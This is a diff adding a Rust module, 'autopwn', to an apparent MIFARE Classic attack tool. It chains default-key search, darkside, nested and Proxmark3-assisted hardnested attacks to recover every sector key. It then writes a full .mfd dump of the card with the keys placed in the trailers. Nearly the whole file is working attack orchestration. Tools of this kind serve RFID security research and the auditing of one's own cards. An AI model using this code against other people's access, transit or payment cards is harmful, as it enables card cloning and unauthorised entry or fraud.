@@ -0,0 +1,189 @@
+// src/attacks/autopwn.rs
+//
+// Every key the MFRC522 can recover and then the dump, in one job, as `hf mf autopwn`
+// does on a Proxmark3: the default keys first, darkside for a first key when none of
+// them opens a sector, and nested from a known key for the sectors still without one.
+// A card with a hardened PRNG needs hardnested for those, which only the Proxmark3
+// runs: with one attached the card is moved to it for hardnested and back for the
+// dump, without one they are left out of the dump and the result says which they are.
+// The sectors are those of the card's layout, found from its SAK.
+use std::error::Error;
+use std::fs;
+use std::thread;
+use std::time::{Duration, Instant};
+use mifare_rc522::CardLayout;
+use progress_sink::Progress;
+
+use crate::card_detection::detect_card;
+use crate::cards::{sector_index, KeyType};
+use crate::i18n::{tr, tr_args};
+use crate::jobs::{self, JobContext, JobEvent, Stage, CARD_TIMEOUT};
+use crate::operations::read::read_sectors;
+use crate::proxmark3::Proxmark3;
+use crate::reader::MifareClassic;
+use crate::results::{results_dir, AttackResult};
+use crate::utils::format_uid;
+use super::{darkside, default_keys, nested};
+
+/// Recover the keys of the card with `uid` and dump it, as a job. The dump is saved as
+/// a raw .mfd next to the result.
+pub fn autopwn(reader: &mut MifareClassic, uid: &[u8], context: &JobContext) -> Result<Option<AttackResult>, Box<dyn Error>> {
+    let layout = reader.layout();
+    let mut result = AttackResult::new("autopwn", uid, layout.sector_count() as usize);
+
+    match default_keys::search_default_keys(reader, uid, context)? {
+        Some(found) => result.merge(&found),
+        None => return Ok(None),
+    }
+
+    if !missing_sectors(&result, layout).is_empty() {
+        // the card's PRNG says which attack can go on
+        let report = match jobs::collect_nonces(reader, uid, 0, context)? {
+            Some(report) => report,
+            None => return Ok(None),
+        };
+        let (kind, darkside_viable, nested_viable) = (report.kind, report.darkside_viable(), report.nested_viable());
+        result.add_nonces(&report);
+        context.report(JobEvent::Prng(report));
+
+        if result.sectors.is_empty() {
+            if !darkside_viable {
+                return Err(tr_args("autopwn-no-way-in", &[("prng", &kind.to_string())]).into());
+            }
+            result = darkside::recover_key(reader, 0, result, context)?;
+        }
+
+        let missing = missing_sectors(&result, layout);
+        let known = known_key(&result).ok_or("No key to start nested from")?;
+        if nested_viable {
+            result = match nested::attack_sectors(reader, known, &missing, result, context)? {
+                Some(result) => result,
+                None => return Ok(None),
+            };
+        } else if let Some(pm3) = Proxmark3::detect() {
+            result = match hardnested(&pm3, reader, uid, known, &missing, result, context)? {
+                Some(result) => result,
+                None => return Ok(None),
+            };
+        } else {
+            result.notes.push(format!(
+                "Sectors {} need hardnested, the card's PRNG is {}. Attach a Proxmark3 and autopwn runs it there.",
+                sector_list(&missing),
+                kind
+            ));
+        }
+    }
+
+    if context.cancelled() {
+        return Ok(None);
+    }
+    let sink = |progress: &Progress| context.report(JobEvent::Progress { stage: Stage::Dump, progress: progress.clone() });
+    let sectors = read_sectors(reader, layout.sector_count(), &sink)?;
+    let unread: Vec<u8> = layout.sectors()
+        .filter(|sector| sectors[sector.index()].len() < sector.block_count() as usize)
+        .map(|sector| sector.get())
+        .collect();
+    if !unread.is_empty() {
+        result.notes.push(format!("Sectors {} could not be read, they are zeros in the dump", sector_list(&unread)));
+    }
+
+    let dir = results_dir();
+    fs::create_dir_all(&dir)?;
+    let path = dir.join(format!("{}.mfd", result.file_stem()));
+    fs::write(&path, mfd_image(layout, &sectors, &result))?;
+    result.dump = Some(path);
+    Ok(Some(result))
+}
+
+// the sectors neither key is known for
+fn missing_sectors(result: &AttackResult, layout: CardLayout) -> Vec<u8> {
+    layout.sectors()
+        .map(|sector| sector.get())
+        .filter(|&sector| result.key(sector, KeyType::KeyA).is_none() && result.key(sector, KeyType::KeyB).is_none())
+        .collect()
+}
+
+// Both keys of `targets` by hardnested on the Proxmark3, from a key known to open its
+// sector. The card is moved to the Proxmark3 for it, and back to the MFRC522 after.
+fn hardnested(
+    pm3: &Proxmark3,
+    reader: &mut MifareClassic,
+    uid: &[u8],
+    (sector, key_type, key): (u8, KeyType, [u8; 6]),
+    targets: &[u8],
+    mut result: AttackResult,
+    context: &JobContext,
+) -> Result<Option<AttackResult>, Box<dyn Error>> {
+    context.report(JobEvent::Reader(tr_args("autopwn-hardnested-on-pm3", &[("port", pm3.port())])));
+    match pm3.wait_for_card(CARD_TIMEOUT.as_secs())? {
+        Some(info) if uid.starts_with(&info.uid) => {},
+        Some(info) => return Err(tr_args("autopwn-pm3-wrong-card", &[("found", &format_uid(&info.uid)), ("uid", &format_uid(uid))]).into()),
+        None => return Err(tr_args("autopwn-no-card-on-pm3", &[("seconds", &CARD_TIMEOUT.as_secs().to_string())]).into()),
+    }
+
+    let known_block = sector_index(sector)?.first_block().get();
+    let total = targets.len() * 2;
+    for (done, &target) in targets.iter().enumerate() {
+        let target_block = sector_index(target)?.first_block().get();
+        for (tried, target_type) in [KeyType::KeyA, KeyType::KeyB].into_iter().enumerate() {
+            if context.cancelled() {
+                return Ok(None);
+            }
+            if let Some(found) = pm3.hardnested(known_block, &key, key_type, target_block, target_type)? {
+                result.add_key(target, target_type, found);
+                context.report(JobEvent::Key { sector: target, key_type: target_type, key: found });
+            }
+            context.progress(Stage::Keys, done * 2 + tried + 1, total);
+        }
+    }
+
+    context.report(JobEvent::Reader(tr("autopwn-card-back-on-mfrc522")));
+    let start = Instant::now();
+    while start.elapsed() < CARD_TIMEOUT {
+        if context.cancelled() {
+            return Ok(None);
+        }
+        if detect_card(reader)?.is_some_and(|found| found == uid) {
+            return Ok(Some(result));
+        }
+        thread::sleep(Duration::from_millis(100));
+    }
+    Err(tr_args("autopwn-no-card-on-mfrc522", &[("seconds", &CARD_TIMEOUT.as_secs().to_string())]).into())
+}
+
+// a key found so far, Key A of the lowest sector first
+fn known_key(result: &AttackResult) -> Option<(u8, KeyType, [u8; 6])> {
+    result.sectors.iter().find_map(|keys| {
+        [KeyType::KeyA, KeyType::KeyB]
+            .into_iter()
+            .find_map(|key_type| result.key(keys.sector, key_type).map(|key| (keys.sector, key_type, key)))
+    })
+}
+
+// e.g. "3, 5, 12"
+fn sector_list(sectors: &[u8]) -> String {
+    sectors.iter().map(u8::to_string).collect::<Vec<_>>().join(", ")
+}
+
+/// A raw .mfd image as mfoc and nfc-mfclassic write it: the blocks read, zeros for the
+/// ones that weren't, and the keys found put back in the trailers, which a card reads
+/// back as zeros
+fn mfd_image(layout: CardLayout, sectors: &[Vec<Vec<u8>>], result: &AttackResult) -> Vec<u8> {
+    let mut image = Vec::with_capacity(layout.block_count() * 16);
+    for (sector, blocks) in layout.sectors().zip(sectors) {
+        for (block, addr) in sector.blocks().enumerate() {
+            let mut data = blocks.get(block).cloned().unwrap_or_default();
+            data.resize(16, 0);
+            if addr.is_trailer() {
+                if let Some(key) = result.key(sector.get(), KeyType::KeyA) {
+                    data[0..6].copy_from_slice(&key);
+                }
+                if let Some(key) = result.key(sector.get(), KeyType::KeyB) {
+                    data[10..16].copy_from_slice(&key);
+                }
+            }
+            image.extend_from_slice(&data);
+        }
+    }
+    image
+}